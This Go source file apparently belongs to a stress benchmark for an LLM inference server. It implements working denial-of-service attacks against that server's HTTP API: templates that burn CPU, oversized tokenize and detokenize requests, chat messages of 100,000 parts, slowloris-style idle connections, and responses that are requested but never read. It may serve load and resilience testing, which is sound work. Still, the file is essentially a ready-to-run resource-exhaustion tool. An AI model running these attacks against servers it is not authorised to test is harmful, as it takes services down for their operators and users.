package attacks

import (
	"cmp"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// attack is what an attacker does until the context ends. count is called for each request or connection.
type attack func(ctx context.Context, to Target, size Size, count func())

var attacks = map[string]attack{
	"template": templates, "tokens": tokens, "parts": parts, "idle": idle, "unread": unread,
}

// Kinds returns those of a list that is separated by commas, or all kinds for "".
func Kinds(list string) ([]string, error) {
	if list == "" {
		return slices.Sorted(maps.Keys(attacks)), nil
	}
	kinds := strings.Split(list, ",")
	for _, kind := range kinds {
		if attacks[kind] == nil {
			return nil, fmt.Errorf("there is no attack %q", kind)
		}
	}
	return kinds, nil
}

// Size is how much attackers send.
type Size struct {
	Connections int // that an idle attacker has open
	Parts       int // of a message
	Tokens      int // ids of a request, and bytes of a text
}

// Full is the size of the benchmark.
var Full = Size{Connections: 450, Parts: 100_000, Tokens: 300_000}

// Run lets a number of attackers, of some kinds in turn, attack until the context ends. It returns how often each kind
// did.
func Run(ctx context.Context, to Target, kinds []string, attackers int, size Size) map[string]int64 {
	counts := make([]atomic.Int64, len(kinds))
	var all sync.WaitGroup
	for i := range attackers {
		kind := i % len(kinds)
		all.Go(func() { attacks[kinds[kind]](ctx, to, size, func() { counts[kind].Add(1) }) })
	}
	all.Wait()
	out := map[string]int64{}
	for i := range counts {
		out[kinds[i]] = counts[i].Load()
	}
	return out
}

const (
	attackTimeout = 5 * time.Second        // of an attacker who waits for a response, and then leaves
	pause         = 100 * time.Millisecond // between the attempts of one who was refused
)

// send sends a request and returns its connection.
func send(ctx context.Context, to Target, path, body string) (net.Conn, error) {
	c, err := new(net.Dialer).DialContext(ctx, "tcp", to.Address)
	if err != nil {
		return nil, err
	}
	_ = c.SetDeadline(time.Now().Add(attackTimeout))
	const head = "POST %s HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%s"
	_, err = fmt.Fprintf(c, head, path, len(body), body)
	if err != nil {
		c.Close()
		return nil, err
	}
	return c, nil
}

// repeat sends requests, each time one of some bodies, and reads the responses as far as patience lasts.
func repeat(ctx context.Context, to Target, path string, count func(), bodies ...string) {
	for i := 0; ctx.Err() == nil; i++ {
		c, err := send(ctx, to, path, bodies[i%len(bodies)])
		if err == nil {
			count()
			stop := context.AfterFunc(ctx, func() { c.Close() })
			_, _ = io.Copy(io.Discard, c)
			stop()
			c.Close()
		}
		wait(ctx, pause)
	}
}

func wait(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

func encode(v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		panic(err) // only values of this package
	}
	return string(b)
}

// templates sends small templates that compute for long.
func templates(ctx context.Context, to Target, _ Size, count func()) {
	const long = "{% set a='a'*600000 %}{% set b='b'*600000 ~ 'a' %}"
	loop := func(what string) string {
		return encode(map[string]any{"model": to.Model, "prompt": "x", "stream": false,
			"template": long + "{% for i in range(100000) %}{% if " + what + " %}{% endif %}{% endfor %}"})
	}
	repeat(ctx, to, "/api/generate", count,
		loop("a.strip(b)"), loop("1.1 ** 0.1"), loop("a == b"), loop("a|title"), loop("('9'*100000)|int(base=16)"))
}

// tokens lets texts be made of ids and ids of texts.
func tokens(ctx context.Context, to Target, size Size, count func()) {
	model := cmp.Or(to.Victim, to.Model)
	ids := encode(map[string]any{"model": model, "tokens": ids(to, size.Tokens)})
	text := encode(map[string]any{"model": model, "prompt": strings.Repeat("a", size.Tokens)})
	both, cancel := context.WithCancel(ctx)
	defer cancel()
	var two sync.WaitGroup
	two.Go(func() { repeat(both, to, "/v1/detokenize", count, ids) })
	two.Go(func() { repeat(both, to, "/v1/tokenize", count, text) })
	two.Wait()
}

// ids returns ids of tokens: of long ones if there are any, which are fewer.
func ids(to Target, n int) []int {
	if to.Victim != "" {
		return slices.Repeat([]int{to.Long}, n/1000)
	}
	list := make([]int, n)
	for i := range list {
		list[i] = 300 + i%500
	}
	return list
}

// parts sends messages of many parts.
func parts(ctx context.Context, to Target, size Size, count func()) {
	part := `{"type":"text","text":"` + strings.Repeat("x", 80) + `"}`
	list := strings.Repeat(part+",", size.Parts-1) + part
	body := fmt.Sprintf(`{"model":%q,"max_tokens":1,"messages":[{"role":"user","content":[%s]}]}`, to.Model, list)
	repeat(ctx, to, "/v1/chat/completions", count, body)
}

// idle keeps connections open that say little.
func idle(ctx context.Context, to Target, size Size, count func()) {
	says := []string{"", "GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n", "POST /api/generate HTTP/1.1\r\nHost: loc",
		"POST /api/generate HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000\r\n\r\n{"}
	var all sync.WaitGroup
	for i := range size.Connections {
		all.Go(func() {
			for ctx.Err() == nil {
				if c, err := new(net.Dialer).DialContext(ctx, "tcp", to.Address); err == nil {
					count()
					stop := context.AfterFunc(ctx, func() { c.Close() })
					_, _ = io.WriteString(c, says[i%len(says)])
					_, _ = io.Copy(io.Discard, c)
					stop()
					c.Close()
				}
				wait(ctx, attackTimeout)
			}
		})
	}
	all.Wait()
}

// unread asks for long responses and does not read them.
func unread(ctx context.Context, to Target, size Size, count func()) {
	body := encode(map[string]any{"model": cmp.Or(to.Victim, to.Model), "tokens": ids(to, 4*size.Tokens)})
	for ctx.Err() == nil {
		if c, err := send(ctx, to, "/v1/detokenize", body); err == nil {
			count()
			wait(ctx, 4*attackTimeout)
			c.Close()
		}
		wait(ctx, pause)
	}
}
